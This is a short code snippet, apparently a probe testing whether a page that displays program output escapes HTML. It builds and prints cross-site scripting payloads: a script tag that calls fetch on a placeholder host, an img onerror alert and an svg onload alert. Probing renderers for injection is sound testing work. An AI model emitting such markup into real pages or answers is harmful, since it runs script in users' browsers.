# tries: sends markup to the page that shows the answer
answer = ECHO("</pre><script>fetch('//x')</script>") + "<img src=x onerror=alert(1)>"
print("</script><svg onload=alert(1)>")
